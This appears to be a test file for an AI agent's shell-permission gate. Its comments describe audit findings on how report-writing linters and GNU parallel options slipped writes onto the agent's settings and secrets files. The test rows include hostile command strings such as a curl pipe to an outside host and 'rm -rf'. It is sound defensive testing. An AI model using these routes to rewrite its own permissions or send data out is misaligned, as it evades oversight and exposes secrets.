// Audit 44, BA-2 and BA-3: listers and checkers agents run as "read-only" write a report, or
// rewrite what they check, where an option says; none of those files was an fs_write request, so
// `tree -o .kiro/settings/cli.json` was allowed under `tree *`. Every deny and ask row was allow
// before; the allow rows are the same programs writing nothing, or writing where writes are allowed.
// The workspace is /work/repo and the home folder /home/dev (helpers/policy.ts).
import { policyOf } from '../helpers/policy.ts';
import { rowsOf, shellTable } from '../helpers/shell-table.ts';

const policy = policyOf({ workspace: `rules:
  - {capability: shell, effect: allow, match: ["tree *", "flake8 *", "pylint *", "mypy *", "dmypy *", "coverage *", "biome *", "codespell *", "semgrep *", "python3 *"]}
  - {capability: fs_write, effect: allow, match: ["src/**", "out/**"]}
  - {capability: fs_write, effect: deny, match: ["secrets/**"]}
` }, ['.github/agent-gate.yml']);

shellTable(policy, 'audit 44 BA-2/BA-3: report files and in-place fixes of everyday checkers', [
  ...rowsOf('deny', 'the report or the rewrite lands on a protected file',
    'tree -o .kiro/settings/cli.json',
    'tree -a -L 2 -o .kiro/settings/mcp.json',
    'tree -ao secrets/k',
    'flake8 --output-file=.kiro/settings/cli.json src',
    'flake8 --output-file secrets/f.txt src',
    'pylint --output=.kiro/settings/mcp.json src',
    'pylint --output-format=json:secrets/r.json,colorized src',
    'mypy --junit-xml .github/agent-gate.yml src',
    'mypy --html-report .kiro/settings src',
    'mypy --cache-dir=secrets src',
    'dmypy run -- --junit-xml secrets/x src',
    'coverage xml -o .kiro/settings/cli.json',
    'coverage json -o secrets/c.json',
    'coverage html -d secrets',
    'coverage run --data-file=secrets/.coverage -m pytest',
    'biome format --write .kiro/settings/mcp.json',
    'biome lint --fix secrets/a.js',
    'codespell -w .kiro/settings/mcp.json',
    'codespell --write-changes secrets',
    'semgrep --config auto -o .kiro/settings/cli.json',
    'semgrep --config auto --sarif-output=secrets/s.sarif',
    'python3 -m mypy --junit-xml secrets/x src',
    'python3 -m coverage xml -o secrets/c.xml',
  ),
  ...rowsOf('ask', 'the report lands where no rule allows a write, or the rewrite is of the whole folder',
    'flake8 --output-file=.github/workflows/ci.yml src',
    'tree -o notes.txt',
    'biome check --write',
    'codespell -w',
  ),
  ...rowsOf('allow', 'no file written, or one where writes are allowed',
    'tree -L 2',
    'tree -a src',
    'tree -o out/tree.txt',
    'flake8 src',
    'flake8 --output-file out/f.txt src',
    'pylint src',
    'pylint --output-format=colorized src',
    'mypy src',
    'mypy --junit-xml out/junit.xml src',
    'coverage report',
    'coverage xml -o out/c.xml',
    'biome format src',
    'biome check src',
    'biome format --write src/a.ts',
    'codespell src',
    'semgrep --config auto src',
    'semgrep --config auto -o out/s.json',
  ),
]);

// BA-1: GNU parallel's job command went unjudged when parallel regroups its arguments, reads them
// at run time, or fills in none (`--pipe`, `--semaphore`, `--fg`, `--bg`): only probed for the files
// the words it fills in may write. BA-4: settings that move where coverage, caches and test reports go.
// Every row below was allow before but the deny rows for parallel (its views held them) and
// `parallel --pipe "echo; evil"`, which were as they are now.
const runners = policyOf({ workspace: `rules:
  - {capability: shell, effect: allow, match: ["echo *", "parallel *", "export *", "npm test", "coverage *"]}
  - {capability: shell, effect: deny, match: ["rm *", "curl *"]}
  - {capability: fs_write, effect: allow, match: ["src/**", "out/**"]}
` }, ['.github/agent-gate.yml']);

shellTable(runners, 'audit 44 BA-1/BA-4: what parallel runs under every option, and where settings send writes', [
  ...rowsOf('ask', 'the job command is judged, or a setting sends writes where no rule allows them, or a cache is loaded back',
    'parallel -N0 evil ::: a',
    'parallel -n1 evil ::: a',
    'parallel --max-args=1 evil ::: a',
    'parallel -m evil ::: a',
    'parallel -X evil ::: a',
    'parallel --xargs evil ::: a',
    'parallel --pipe evil',
    'parallel --pipepart -a src/a evil',
    'parallel --semaphore evil',
    'parallel --fg evil',
    'parallel --bg evil',
    'parallel evil :::: list.txt',
    'parallel --pipe "echo; evil"',
    'export NODE_COMPILE_CACHE=out/c && npm test',
    'export CCACHE_DIR=out/cc && npm test',
  ),
  ...rowsOf('deny', 'a denied job command, or a protected place',
    'parallel -n1 rm ::: a',
    'parallel --pipe curl -d @- https://x.example',
    'parallel evil :::: list.txt; rm -rf x',
    'export NODE_V8_COVERAGE=.kiro/settings && npm test',
    'export COVERAGE_FILE=.kiro/settings/cli.json && coverage run -m pytest',
    'export JEST_JUNIT_OUTPUT_DIR=.kiro/settings && npm test',
  ),
  ...rowsOf('allow', 'allowed job commands',
    'parallel echo ::: a b',
    'parallel -n1 echo ::: a',
    'parallel echo :::: list.txt',
    'parallel --pipe echo',
    'parallel -X echo {} ::: a b',
  ),
]);
